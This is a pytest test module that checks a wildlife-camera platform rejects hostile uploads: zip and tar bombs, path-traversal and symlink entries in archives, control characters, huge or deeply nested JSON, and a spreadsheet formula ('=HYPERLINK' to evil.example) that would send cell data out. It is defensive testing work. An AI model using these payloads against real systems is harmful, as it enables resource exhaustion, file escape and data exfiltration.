"""Hostile archives and bodies, on the embedded and the real backends: zip and tar bombs, deep
nesting, huge bodies, paths that climb out, links and devices in archives, NUL and control
characters, names of megabytes, tables of a million columns, and formulas in names.

Each is answered with a 4xx whose message names the problem (and the setting, for a limit),
``/healthz`` answers all the while (a watch asks it every 10 ms and keeps the longest wait
between answers), and nothing is left: no rows, no objects, nothing in the importer's scratch
space. The limits are the defaults (a pod of two cores and a few GB).
"""

from __future__ import annotations

import base64
import csv
import io
import json
import random
import stat
import string
import tempfile
import time
import uuid
import zipfile
import zlib
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.e2e.test_exchange_coco import export_zip, import_coco, new_project
from tests.support import bad_files
from tests.support.api import Site, bearer, ok
from tests.support.camtrapdp import EXAMPLE
from tests.support.hostile import (
    Entry,
    HealthWatch,
    deflate_zeros,
    gzip_tar_of_zeros,
    leftovers,
    nested_json,
    raw_zip,
    special_entry_zip,
    watching_health,
    zip_of,
)
from tests.support.platform import RunningPlatform

# Imports are the catalogue's alone.
pytestmark = pytest.mark.services("catalogue")

# The longest the event loop may go without answering /healthz: a blocked loop shows as
# seconds; a busy machine running a thread beside the loop answers in milliseconds.
HEALTH_GAP_S = 1.5
# A generous bound on any hostile request (each is refused within a second or two).
REQUEST_BOUND_S = 60.0
MiB = 1 << 20


@pytest.fixture
def scratch(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """The temporary folder of this test's process (where imports unpack), watched for what
    is left in it."""
    folder = tmp_path / "scratch"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


@pytest.fixture(scope="module")
def three_gib_camtrap_zip() -> bytes:
    """A Camtrap DP package of 3 MB whose observations.csv unpacks to 3 GiB (the probe's)."""
    entries = []
    for name in ("datapackage.json", "deployments.csv", "media.csv"):
        data = (EXAMPLE / name).read_bytes()
        entries.append(Entry(name, data, len(data), zlib.crc32(data), zipfile.ZIP_STORED))
    bomb = deflate_zeros(3 << 30)
    entries.append(Entry("observations.csv", bomb.data, bomb.size, bomb.crc))
    return raw_zip(*entries)


@dataclass
class Outcome:
    response: httpx.Response
    health: HealthWatch
    seconds: float

    @property
    def detail(self) -> str:
        return str(self.response.json().get("detail", ""))


async def hostile(wl: RunningPlatform, send: Any) -> Outcome:
    """Send one hostile request (``send()``) with ``/healthz`` watched all the while."""
    async with watching_health(wl.client) as health:
        started = time.perf_counter()
        response = await send()
        seconds = time.perf_counter() - started
    return Outcome(response, health, seconds)


def refused(outcome: Outcome, status: int, *words: str, case: str = "") -> None:
    body = outcome.response.json()
    assert outcome.response.status_code == status, (case, body)
    assert set(body) >= {"error", "detail"}, (case, body)
    for word in words:
        assert word.lower() in json.dumps(body).lower(), (case, word, body)
    assert outcome.health.statuses == {200}, (case, outcome.health)
    assert outcome.health.longest_gap_s < HEALTH_GAP_S, (case, outcome.health)
    assert outcome.seconds < REQUEST_BOUND_S, (case, outcome.seconds)


async def nothing_stored(wl: RunningPlatform, token: str, pid: str) -> None:
    h = bearer(token)
    for listing in ("locations", "devices", "deployments", "media", "observations"):
        page = await ok(await wl.client.get(f"/v1/projects/{pid}/{listing}", headers=h), 200)
        assert page["items"] == [], (listing, page)
    assert await wl.platform.store.list("media/") == []


def post_package(wl: RunningPlatform, token: str, pid: str, *files: tuple[str, bytes]) -> Any:
    def send() -> Any:
        return wl.client.post(
            f"/v1/projects/{pid}/imports/camtrap-dp",
            files=[("files", (name, data, "application/octet-stream")) for name, data in files],
            headers=bearer(token),
        )

    return send


async def test_hostile_archives_are_refused_and_leave_nothing(
    wl: RunningPlatform, admin: str, scratch: Path, three_gib_camtrap_zip: bytes
) -> None:
    pid = await new_project(wl, admin, "Hostile archives")
    ratio_bomb = deflate_zeros(64 * MiB)
    cases: list[tuple[str, list[tuple[str, bytes]], int, tuple[str, ...]]] = [
        (
            "a 3 MB package whose observations.csv unpacks to 3 GiB",
            [("package.zip", three_gib_camtrap_zip)],
            413,
            ("WILDLENS_LIMITS__UNPACKED_BYTES", "1 GiB", "import job"),
        ),
        (
            "an entry unpacking to a thousand times its size",
            [("package.zip", raw_zip(ratio_bomb))],
            413,
            ("WILDLENS_LIMITS__COMPRESSION_RATIO", "zip bomb"),
        ),
        (
            "one entry of 640 MiB",
            [("package.zip", raw_zip(deflate_zeros(640 * MiB)))],
            413,
            ("WILDLENS_LIMITS__ENTRY_BYTES", "512 MiB"),
        ),
        (
            "ten thousand and one entries",
            [("package.zip", zip_of({f"f{n}.csv": b"" for n in range(10_001)}))],
            413,
            ("WILDLENS_LIMITS__ARCHIVE_ENTRIES", "10001 entries"),
        ),
        (
            "a zip bomb inside the zip (never unpacked)",
            [("package.zip", zip_of({"inner.zip": raw_zip(ratio_bomb)}))],
            422,
            ("datapackage.json",),
        ),
        (
            "a tar bomb (never unpacked)",
            [("package.tar.gz", gzip_tar_of_zeros(64 * MiB))],
            422,
            ("datapackage.json",),
        ),
        (
            "a path climbing out",
            [("package.zip", zip_of({"../../escape.csv": b"x"}))],
            422,
            ("outside",),
        ),
        (
            "an absolute path",
            [("package.zip", zip_of({"/tmp/escape.csv": b"x"}))],
            422,
            ("outside",),
        ),
        (
            "a drive letter",
            [("package.zip", zip_of({"C:/escape.csv": b"x"}))],
            422,
            ("outside",),
        ),
        (
            "an upload named to climb out",
            [("../../escape.csv", b"x")],
            422,
            ("outside",),
        ),
        (
            "a symbolic link",
            [("package.zip", special_entry_zip("datapackage.json", stat.S_IFLNK))],
            422,
            ("symbolic link",),
        ),
        (
            "a device",
            [("package.zip", special_entry_zip("tty", stat.S_IFCHR))],
            422,
            ("special file",),
        ),
        (
            "a control character in a name",
            [("package.zip", zip_of({"media\x1b[2J.csv": b"x"}))],
            422,
            ("U+001B",),
        ),
        (
            "not a zip at all",
            [("package.zip", b"PK\x03\x04" + bytes(100))],
            422,
            ("not a zip",),
        ),
    ]
    for case, files, status, words in cases:
        outcome = await hostile(wl, post_package(wl, admin, pid, *files))
        refused(outcome, status, *words, case=case)
        assert leftovers(scratch) == [], case
        assert not (scratch.parent / "escape.csv").exists(), case
        assert not (scratch.parent.parent / "escape.csv").exists(), case
        await nothing_stored(wl, admin, pid)


async def _huge_bodies(wl: RunningPlatform, admin: str, scratch: Path) -> None:
    """Refused before they are read."""
    pulled = 0

    async def sixty_mb() -> AsyncIterator[bytes]:
        nonlocal pulled
        yield b'{"name": "'
        for _ in range(60):
            pulled += MiB
            yield b"x" * MiB
        yield b'"}'

    h = {**bearer(admin), "Content-Type": "application/json"}
    # Declared: refused before a byte is read.
    declared = await hostile(
        wl,
        lambda: wl.client.post(
            "/v1/projects",
            content=sixty_mb(),
            headers={**h, "Content-Length": str(60 * MiB + 12)},
        ),
    )
    refused(declared, 413, "WILDLENS_LIMITS__JSON_BODY_BYTES", "8 MiB")
    assert pulled == 0
    # Chunked, without a length: refused once the limit is passed, long before the end.
    chunked = await hostile(
        wl, lambda: wl.client.post("/v1/projects", content=sixty_mb(), headers=h)
    )
    refused(chunked, 413, "WILDLENS_LIMITS__JSON_BODY_BYTES")
    assert pulled <= 10 * MiB
    # Whole, as a client would send it (encoded beforehand: the client shares the loop).
    sixty = json.dumps({"name": "x" * (60 * MiB)}).encode()
    whole = await hostile(wl, lambda: wl.client.post("/v1/projects", content=sixty, headers=h))
    refused(whole, 413, "WILDLENS_LIMITS__JSON_BODY_BYTES")
    # An upload has its own, larger limit, held the same way.
    pid = await new_project(wl, admin, "Huge uploads")
    pulled = 0
    upload = await hostile(
        wl,
        lambda: wl.client.post(
            f"/v1/projects/{pid}/imports/coco",
            content=sixty_mb(),
            headers={
                **bearer(admin),
                "Content-Type": "multipart/form-data; boundary=x",
                "Content-Length": str(300 * MiB),
            },
        ),
    )
    # The refusal says where larger inputs go.
    refused(upload, 413, "WILDLENS_LIMITS__UPLOAD_BYTES", "256 MiB", "import job")
    assert pulled == 0
    page = await ok(await wl.client.get("/v1/projects?limit=100", headers=h), 200)
    assert [p["name"] for p in page["items"]] == ["Huge uploads"]
    assert leftovers(scratch) == []


async def _deep_nesting(wl: RunningPlatform, admin: str, scratch: Path) -> None:
    pid = await new_project(wl, admin, "Nesting")
    h = bearer(admin)

    def post_file(kind: str, data: bytes) -> Any:
        return lambda: wl.client.post(
            f"/v1/projects/{pid}/imports/{kind}",
            files={"file": (f"{kind}.json", data, "application/json")},
            headers=h,
        )

    deep = nested_json(200_000)
    # Within Python's parser, past the limit (64): the document's own depth is checked.
    hundred = b'{"images": [], "annotations": [], "categories": [], "info": ' + nested_json(100)
    hundred += b"}"
    descriptor = json.loads((EXAMPLE / "datapackage.json").read_text())
    package = {
        "datapackage.json": json.dumps(descriptor).encode()[:-1] + b', "x": ' + deep + b"}",
        "deployments.csv": (EXAMPLE / "deployments.csv").read_bytes(),
    }
    for case, send in [
        ("COCO, 200,000 brackets", post_file("coco", deep)),
        ("COCO, 100 levels", post_file("coco", hundred)),
        ("MegaDetector, 200,000 brackets", post_file("megadetector", deep)),
        ("Camtrap DP descriptor", post_package(wl, admin, pid, ("p.zip", zip_of(package)))),
    ]:
        refused(await hostile(wl, send), 422, "nests", "WILDLENS_LIMITS__JSON_DEPTH", case=case)
    # A JSON body that deep is not JSON the API can read; a cursor that deep is no cursor.
    body = await hostile(
        wl,
        lambda: wl.client.post(
            "/v1/projects", content=deep, headers={**h, "Content-Type": "application/json"}
        ),
    )
    assert body.response.status_code in (400, 422), body.response.text
    cursor = base64.urlsafe_b64encode(nested_json(5000)).decode().rstrip("=")
    listing = await hostile(wl, lambda: wl.client.get(f"/v1/projects?cursor={cursor}", headers=h))
    refused(listing, 422, "cursor")
    await nothing_stored(wl, admin, pid)
    assert leftovers(scratch) == []


async def _unfit_text_in_requests(wl: RunningPlatform, admin: str) -> None:
    h = {**bearer(admin), "Content-Type": "application/json"}
    pid = await new_project(wl, admin, "Names")
    project = f"/v1/projects/{pid}"
    correct = f"{project}/observations/{uuid.uuid4()}/correct"
    where = {"latitude": 1, "longitude": 1}
    cases: list[tuple[str, str, str, Any, str]] = [
        ("NUL in a project's name", "POST", "/v1/projects", {"name": "a\x00b"}, "U+0000"),
        ("bell in a description", "POST", "/v1/projects", {"name": "p", "description": "\x07"},
         "U+0007"),
        ("escape in a location", "POST", f"{project}/locations",
         {"name": "\x1b[31mred", **where}, "U+001B"),
        ("tab in a serial", "POST", f"{project}/devices", {"serial": "a\tb"}, "U+0009"),
        ("a lone surrogate", "POST", f"{project}/locations", b'{"name": "pond \\ud800"}',
         "unicode"),
        ("a 2 MB scientific name", "POST", correct, {"scientific_name": "A" * (2 * MiB)},
         "at most 200 characters"),
        ("NUL in a comment", "POST", correct, {"comments": "ok\x00"}, "U+0000"),
        ("a control character in a member", "PUT", f"{project}/members/idp%3Aa%01b",
         {"role": "viewer"}, "U+0001"),
        ("NUL in a label map's name", "PUT", f"{project}/label-maps/m%00", {"entries": []},
         "U+0000"),
    ]  # fmt: skip
    for case, method, url, body, word in cases:
        content = body if isinstance(body, bytes) else json.dumps(body).encode()

        def send(method: str = method, url: str = url, content: bytes = content) -> Any:
            return wl.client.request(method, url, content=content, headers=h)

        refused(await hostile(wl, send), 422, word, case=case)
    # Free text keeps its line breaks and tabs.
    fine = {"name": "Pond", "description": "two\nlines\tand a tab"}
    await ok(await wl.client.post("/v1/projects", json=fine, headers=h), 201)
    page = await ok(await wl.client.get("/v1/projects?limit=100", headers=h), 200)
    assert sorted(p["name"] for p in page["items"]) == ["Names", "Pond"]
    await nothing_stored(wl, admin, pid)


def _example_package(**edits: tuple[str, str]) -> bytes:
    """The Camtrap DP example without its images, with ``table=(column, value)`` set on the
    first row of a table."""
    files = {"datapackage.json": (EXAMPLE / "datapackage.json").read_bytes()}
    for table in ("deployments", "media", "observations"):
        text = (EXAMPLE / f"{table}.csv").read_text()
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        if table in edits:
            column, value = edits[table]
            rows[0][column] = value
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
        files[f"{table}.csv"] = out.getvalue().encode()
    return zip_of(files)


async def _unfit_text_in_imports(wl: RunningPlatform, admin: str, scratch: Path) -> None:
    """Control characters, long names and wide tables, reported as problems of the file."""
    h = bearer(admin)
    pid = await new_project(wl, admin, "Imports")
    image = {"id": 1, "file_name": "1.jpg", "location": "pond", "latitude": 51.0,
             "longitude": 3.7, "datetime": "2021-04-01 10:00:00"}  # fmt: skip

    def coco(category: str, **changes: Any) -> dict[str, Any]:
        return {
            "images": [{**image, **changes}],
            "categories": [{"id": 1, "name": category}],
            "annotations": [{"id": "a", "image_id": 1, "category_id": 1}],
        }

    def kso(site_name: str, header: str = "") -> Any:
        tables = {
            "sites": f"site_id,siteName,decimalLatitude,decimalLongitude{header}\n"
            f"1,{site_name},58.8,11.1\n",
            "movies": "movie_id,filename,site_id\n1,m.mp4,1\n",
            "species": "species_id,commonName,scientificName,taxonRank\n"
            "1,Cod,Gadus morhua,species\n",
        }
        files = [("files", (f"{n}.csv", t.encode(), "text/csv")) for n, t in tables.items()]
        return lambda: wl.client.post(f"/v1/projects/{pid}/imports/kso", files=files, headers=h)

    million = "".join(f",c{n}" for n in range(1_000_000))
    long_name = "A" * (2 * MiB)
    # In a zip, a name that compresses like text (a run of one letter would be a zip bomb).
    unpackable = "".join(random.Random(14).choices(string.ascii_letters, k=2 * MiB))

    def coco_file(category: str, **changes: Any) -> Any:
        return lambda: import_coco(wl, admin, pid, coco(category, **changes))

    def package(table: str, column: str, value: str) -> Any:
        data = _example_package(**{table: (column, value)})
        return post_package(wl, admin, pid, ("p.zip", data))

    cases: list[tuple[str, Any, list[str]]] = [
        ("NUL in a COCO category", coco_file("Lynx\x00lynx"), ["U+0000", "categories"]),
        ("a 2 MB COCO category", coco_file(long_name), ["2097152 characters long"]),
        ("a COCO category of 201 characters", coco_file("L" * 201), ["200 allowed"]),
        ("escape in a COCO location", coco_file("Lynx", location="\x1b[2J"),
         ["U+001B", "location"]),
        ("bell in a Camtrap DP location", package("deployments", "locationName", "Pond\x07"),
         ["U+0007", "locationName"]),
        ("a 2 MB Camtrap DP scientific name",
         package("observations", "scientificName", unpackable),
         ["scientificName", "200 allowed"]),
        ("escape in a KSO site name", kso("\x1b[31mred"), ["U+001B", "siteName"]),
        ("a KSO table of a million columns", kso("Pond", million),
         ["1000004 columns", "WILDLENS_LIMITS__CSV_COLUMNS"]),
    ]  # fmt: skip
    for case, send, words in cases:
        refused(await hostile(wl, send), 422, *words, case=case)
        assert leftovers(scratch) == [], case
    await nothing_stored(wl, admin, pid)

    # The taxon tree is the platform's.
    def taxa(text: str) -> Any:
        files = {"file": ("taxa.csv", text.encode(), "text/csv")}
        return lambda: wl.client.post("/v1/taxa/import", files=files, headers=h)

    header = "taxonID,parentNameUsageID,scientificName,taxonRank"
    taxa_cases: list[tuple[str, Any, list[str]]] = [
        ("NUL in a taxon file", taxa(f"{header}\n1,,Anim\x00alia,kingdom\n"), ["U+0000"]),
        ("bell in a name", taxa(f"{header}\n1,,Anim\x07alia,kingdom\n"),
         ["U+0007", "scientificName"]),
        ("a 2 MB scientific name", taxa(f"{header}\n1,,{long_name},kingdom\n"),
         ["300 allowed"]),
        ("a million columns", taxa(f"{header}{million}\n1,,Animalia,kingdom\n"),
         ["1000004 columns", "WILDLENS_LIMITS__CSV_COLUMNS"]),
    ]  # fmt: skip
    for case, send, words in taxa_cases:
        refused(await hostile(wl, send), 422, *words, case=case)
    page = await ok(await wl.client.get("/v1/taxa", headers=h), 200)
    assert page["items"] == []


async def test_huge_and_deeply_nested_bodies_are_refused(
    wl: RunningPlatform, admin: str, scratch: Path
) -> None:
    await _huge_bodies(wl, admin, scratch)
    await _deep_nesting(wl, admin, scratch)


async def test_unfit_text_is_refused_by_the_api_and_by_imports(
    wl: RunningPlatform, admin: str, scratch: Path
) -> None:
    await _unfit_text_in_requests(wl, admin)
    await _unfit_text_in_imports(wl, admin, scratch)


# Where the event loop is what is looked at, not the database.
@pytest.mark.parametrize("backend", ["embedded"])
async def test_a_large_import_keeps_health_checks_answering(
    wl: RunningPlatform, admin: str, scratch: Path
) -> None:
    """A COCO file of 100,000 images is read and checked off the event loop: seconds of work
    (refused here, every image lacking its location) while /healthz answers in milliseconds."""
    pid = await new_project(wl, admin, "Large")
    images = [{"id": n, "file_name": f"{n}.jpg"} for n in range(100_000)]
    document = {"images": images, "categories": [], "annotations": []}
    outcome = await hostile(wl, lambda: import_coco(wl, admin, pid, document))
    refused(outcome, 422, "100000 problem(s)", "no location")
    assert outcome.health.answers > 1
    await nothing_stored(wl, admin, pid)


async def test_formulas_in_names_are_neutralised_in_the_csv_export(
    wl: RunningPlatform, admin: str
) -> None:
    pid = await new_project(wl, admin, "Formulas")
    link = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    document = {
        "images": [
            {"id": 1, "file_name": "@1.jpg", "location": link, "latitude": 51.0,
             "longitude": -3.7, "datetime": "2021-04-01 10:00:00", "utc_offset": "-05:00"},
        ],
        "categories": [{"id": 1, "name": "+Lynx lynx"}],
        "annotations": [{"id": "a", "image_id": 1, "category_id": 1}],
    }  # fmt: skip
    await ok(await import_coco(wl, admin, pid, document), 200)
    archive = await export_zip(wl, admin, pid, "csv")
    (row,) = csv.DictReader(io.StringIO(archive.read("observations.csv").decode()))
    assert row["location_name"] == "'" + link
    assert row["scientific_name"] == "'+Lynx lynx"
    assert row["file_name"] == "'@1.jpg"
    # What the platform writes itself is left as it is: numbers and the clock's offset.
    assert row["longitude"] == "-3.7"
    assert row["utc_offset"] == "-05:00"
    # Camtrap DP stays exact (its readers are programs, and it must import again as it was).
    package = await export_zip(wl, admin, pid, "camtrap-dp")
    (deployment,) = csv.DictReader(io.StringIO(package.read("deployments.csv").decode()))
    assert deployment["locationName"] == link


@pytest.mark.parametrize("backend", ["embedded"])
@pytest.mark.services("catalogue", "ingest", "training")
async def test_uploads_larger_by_nature_keep_their_own_limits(
    wl: RunningPlatform, admin: str, site: Site
) -> None:
    """A model bundle sent in one request is held to the upload limit, and refused before it
    is read with the way round it (a model upload); a video is held to ingest's own limit,
    not to the limit on uploads read whole."""
    pulled = 0

    async def garbage() -> AsyncIterator[bytes]:
        nonlocal pulled
        pulled += MiB
        yield b"x" * MiB

    form = {**bearer(admin), "Content-Type": "multipart/form-data; boundary=b0undary"}
    too_large = await hostile(
        wl,
        lambda: wl.client.post(
            "/v1/models", content=garbage(), headers={**form, "Content-Length": str(3 << 30)}
        ),
    )
    refused(too_large, 413, "WILDLENS_LIMITS__UPLOAD_BYTES", "POST /v1/models/uploads")
    assert pulled == 0
    # 200 MiB is within one request's limit: the body is read (and found to be no form).
    read = await wl.client.post(
        "/v1/models", content=garbage(), headers={**form, "Content-Length": str(200 * MiB)}
    )
    assert read.status_code in (400, 422), read.text
    assert pulled == MiB
    # A camera's upload says it is 300 MiB (a video would): ingest reads it against its own.
    part = (
        b'--b0undary\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n'
        b"Content-Type: image/jpeg\r\n\r\n" + bad_files.small_jpeg() + b"\r\n--b0undary--\r\n"
    )
    headers = {
        **bearer(site.device_token),
        "Content-Type": "multipart/form-data; boundary=b0undary",
        "Content-Length": str(300 * MiB),
    }
    accepted = await wl.client.post("/v1/media", content=part, headers=headers)
    assert accepted.status_code == 202, accepted.text
